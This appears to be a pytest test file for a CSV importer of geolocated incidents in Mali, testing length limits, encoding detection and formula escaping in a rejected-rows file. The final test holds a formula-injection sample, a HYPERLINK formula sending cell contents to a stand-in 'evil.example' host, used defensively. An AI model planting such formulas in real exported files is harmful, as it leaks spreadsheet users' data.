"""The importer's reading limits: long cells and headers, mixed encodings, safe rejected.csv."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from mali_geo.errors import ImportFileError
from mali_geo.importer import import_bytes, write_import
from mali_geo.importer._read import MAX_CELL_CHARS, MAX_HEADER_CHARS
from mali_geo.spreadsheet import FORMULA_PREFIXES

HEADER = b"id,date,lat,lon,place\n"
GOOD = b"B,2013-01-12,16.27167,-0.04472,Gao\n"


def test_a_cell_over_the_limit_rejects_its_row_with_a_reason() -> None:
    data = HEADER + b"A,2013-01-11,16.27167,-0.04472," + b"x" * (MAX_CELL_CHARS + 1) + b"\n" + GOOD
    result = import_bytes(data, source_name="long.csv")
    assert result.summary() == "read 2, accepted 1, rejected 1"
    assert result.rejected["reason"].tolist() == [
        "malformed row: field 5 has 100,001 characters; the limit is 100,000"
    ]
    assert result.incidents["incident_id"].tolist() == ["B"]


def test_a_cell_at_the_limit_is_read() -> None:
    data = HEADER + b"A,2013-01-11,16.27167,-0.04472," + b"x" * MAX_CELL_CHARS + b"\n"
    result = import_bytes(data, source_name="long.csv")
    assert result.summary() == "read 1, accepted 1, rejected 0"
    assert len(result.incidents["place"].iloc[0]) == MAX_CELL_CHARS


def test_a_huge_quoted_field_is_one_rejected_row_not_hundreds() -> None:
    cell = b'"' + b"line of a quoted note\n" * 10_000 + b'"'  # 220,000 characters, many lines
    data = HEADER + b"A,2013-01-11,16.27167,-0.04472," + cell + b"\n" + GOOD
    result = import_bytes(data, source_name="quoted.csv")
    assert result.summary() == "read 2, accepted 1, rejected 1"
    assert result.rejected["line"].tolist() == [2]
    assert result.rejected["reason"].iloc[0] == (
        "malformed row: field 5 has 220,000 characters; the limit is 100,000"
    )
    assert result.incidents["incident_id"].tolist() == ["B"]


def test_a_header_over_the_limit_is_one_clear_message() -> None:
    data = b",".join([b"date", b"lat", b"lon", b"x" * MAX_HEADER_CHARS]) + b"\n" + GOOD
    with pytest.raises(ImportFileError) as caught:
        import_bytes(data, source_name="wide.csv")
    assert str(caught.value) == (
        "wide.csv: not a table: the first line has 131,085 characters; "
        "a header may have at most 131,072"
    )


def test_one_stray_byte_rejects_its_row_and_keeps_every_accent() -> None:
    rows = [
        "S-1,2013-01-11,16.27167,-0.04472,Ségou\n".encode(),
        "S-2,2013-01-12,16.27167,-0.04472,Ménaka\n".encode(),
        "S-3,2013-01-13,16.27167,-0.04472,Tombouctou é\n".encode("cp1252"),  # one stray byte
        "S-4,2013-01-14,16.27167,-0.04472,Léré\n".encode(),
    ]
    result = import_bytes(HEADER + b"".join(rows), source_name="mixed.csv")
    assert result.summary() == "read 4, accepted 3, rejected 1"
    assert result.incidents["place"].tolist() == ["Ségou", "Ménaka", "Léré"]
    assert result.rejected.to_dict("records") == [
        {
            "line": 4,
            "reason": (
                "malformed row: line 4 is not UTF-8 text (byte 0xE9 at character 45), "
                "unlike the rest of the file"
            ),
            "raw": "S-3,2013-01-13,16.27167,-0.04472,Tombouctou \ufffd",
        }
    ]


def test_a_windows_1252_file_is_read_as_windows_1252() -> None:
    rows = [
        "W-1,2013-01-11,16.27167,-0.04472,Ségou\n",
        "W-2,2013-01-12,16.27167,-0.04472,L\u2019ancien marché\n",
        "W-3,2013-01-13,16.27167,-0.04472,Gao\n",
    ]
    data = HEADER + "".join(rows).encode("cp1252")
    result = import_bytes(data, source_name="cp1252.csv")
    assert result.summary() == "read 3, accepted 3, rejected 0"
    assert result.incidents["place"].tolist() == ["Ségou", "L\u2019ancien marché", "Gao"]


def test_a_mostly_windows_1252_file_with_some_utf8_is_windows_1252() -> None:
    rows = [
        "W-1,2013-01-11,16.27167,-0.04472,Ségou\n".encode("cp1252"),
        "W-2,2013-01-12,16.27167,-0.04472,Kéniéba\n".encode("cp1252"),
        "W-3,2013-01-13,16.27167,-0.04472,Léré\n".encode(),
    ]
    result = import_bytes(HEADER + b"".join(rows), source_name="mostly.csv")
    assert result.summary() == "read 3, accepted 3, rejected 0"
    assert result.incidents["place"].tolist()[:2] == ["Ségou", "Kéniéba"]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A2)"]


def test_rejected_csv_cannot_run_formulas(tmp_path: Path) -> None:
    rows = [f"{cell},{cell},16.27167,-0.04472,{cell}\n" for cell in FORMULAS]
    data = HEADER + "".join(rows).encode()
    result = import_bytes(data, source_name="formulas.csv")
    assert result.summary() == "read 4, accepted 0, rejected 4"
    _, csv_path = write_import(result, tmp_path)
    with csv_path.open(encoding="utf-8", newline="") as file:
        records = list(csv.reader(file))
    assert records[0] == ["line", "reason", "raw"]
    cells = [cell for record in records[1:] for cell in record]
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert [record[2] for record in records[1:]] == ["'" + row.rstrip("\n") for row in rows]
    assert [record[0] for record in records[1:]] == ["2", "3", "4", "5"]
